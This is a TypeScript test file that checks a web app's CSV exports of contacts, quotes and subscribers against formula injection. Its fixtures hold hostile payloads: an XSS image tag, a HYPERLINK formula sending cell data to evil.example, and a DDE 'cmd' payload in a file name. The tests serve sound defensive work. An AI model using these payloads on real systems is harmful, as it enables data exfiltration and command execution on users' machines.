import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvStream, toCsv } from "~/lib/csv";
import type { Database } from "~/server/db/schema.server";
import { freshDatabaseEach, testDialects } from "../../../tests/support/databases";
import { downloadTable } from "./exports.server";
import { insertQuoteItem, insertQuoteRequest } from "./testing/quote-leads";

const XSS = "<img src=x onerror=alert(1)>";
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")';
const WEEK = { from: "2026-11-09T05:00:00.000Z", to: "2026-11-16T05:00:00.000Z" };

async function contact(db: Database, at: string, fields: { name: string; message: string; held?: boolean }) {
  await db
    .insertInto("contact_submissions")
    .values({
      name: fields.name,
      email: "visitor@example.com",
      phone: "+1 404 555 0100",
      message: fields.message,
      client_key: null,
      created_at: at,
      reference: null,
      ...(fields.held ? { held_at: at, held_reasons: "[]" } : {}),
    })
    .execute();
}

async function quoteWithFile(db: Database, at: string, fileName: string) {
  const requestId = await insertQuoteRequest(db, {
    reference: "Q-XSS001",
    company: `@SUM(1+1) ${XSS}`,
    name: "-2+3",
    email: "buyer@example.com",
    postal_code: "75201",
    created_at: at,
  });
  await insertQuoteItem(db, requestId, {
    description: "\tthermal labels",
    quantity: 24,
    unit: "roll",
    notes: "+1 800 555 0199",
  });
  const file = await db
    .insertInto("stored_files")
    .values({
      file_name: fileName,
      content_type: "application/pdf",
      byte_size: 3,
      sha256: "0".repeat(64),
      content: Buffer.from("pdf"),
      created_at: at,
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  await db
    .insertInto("quote_files")
    .values({ request_id: requestId, position: 0, file_id: file.id })
    .execute();
}

/** The CSV read as a spreadsheet reads it, with commas and with semicolons: every cell. */
function cellsOf(csv: string): string[] {
  return [",", ";"].flatMap((delimiter) =>
    (parse(csv, { delimiter, relax_column_count: true, relax_quotes: true, bom: true }) as string[][]).flat(),
  );
}

describe.each(testDialects)("the desk's CSV downloads on $name", (dialect) => {
  const t = freshDatabaseEach(dialect);

  it("lists the period's contact messages as typed, no cell starting a formula, and leaves held spam out", async () => {
    await contact(t.db, "2026-11-10T15:00:00.000Z", { name: XSS, message: FORMULA });
    await contact(t.db, "2026-11-10T16:00:00.000Z", { name: "Spammer", message: "buy now", held: true });
    await contact(t.db, "2026-11-20T16:00:00.000Z", { name: "Later Buyer", message: "next week" });
    const table = await downloadTable(t.db, "leads", WEEK);
    const csv = toCsv(table.header, table.rows);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => [row.name, row.message])).toEqual([[XSS, `'${FORMULA}`]]);
    expect(table.cut).toBe(false);
    for (const cell of cellsOf(csv)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("lists quote lines with their file names; a hostile file name or field is text, never a formula", async () => {
    await quoteWithFile(t.db, "2026-11-11T16:00:00.000Z", `=cmd|' /C calc'!A0 ${XSS}.pdf`);
    const table = await downloadTable(t.db, "quotes", WEEK);
    const csv = toCsv(table.header, table.rows);
    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      reference: "Q-XSS001",
      company: `'@SUM(1+1) ${XSS}`,
      name: "'-2+3",
      description: "'\tthermal labels",
      notes: "'+1 800 555 0199",
      files: `'=cmd|' /C calc'!A0 ${XSS}.pdf`,
    });
    for (const cell of cellsOf(csv)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    // Outside the period: nothing.
    const before = await downloadTable(t.db, "quotes", { from: "2026-10-01T00:00:00.000Z", to: WEEK.from });
    expect(before.rows).toEqual([]);
  });

  it("lists the confirmed subscribers, whatever the period", async () => {
    for (const [email, status] of [
      ["a@example.com", "confirmed"],
      ["b@example.com", "pending"],
      ["c@example.com", "unsubscribed"],
    ] as const) {
      await t.db
        .insertInto("newsletter_subscriptions")
        .values({
          email,
          status,
          subscribed_at: "2025-01-01T00:00:00.000Z",
          confirmed_at: status === "pending" ? null : "2025-01-01T00:05:00.000Z",
          unsubscribed_at: status === "unsubscribed" ? "2025-02-01T00:00:00.000Z" : null,
          consent_version: "v1",
          client_key: null,
          confirmation_sent_at: null,
        })
        .execute();
    }
    const table = await downloadTable(t.db, "subscribers", WEEK);
    expect(table.rows.map((row) => row[1])).toEqual(["a@example.com"]);
  });
});

describe("a CSV download as a stream", () => {
  it("starts with a byte order mark and carries the same CSV, a few hundred rows at a time", async () => {
    const rows = Array.from({ length: 1201 }, (_, index) => [index, `=row ${index}`]);
    const bytes = new Uint8Array(await new Response(csvStream(["n", "text"], rows)).arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(3))).toBe(toCsv(["n", "text"], rows));
  });
});
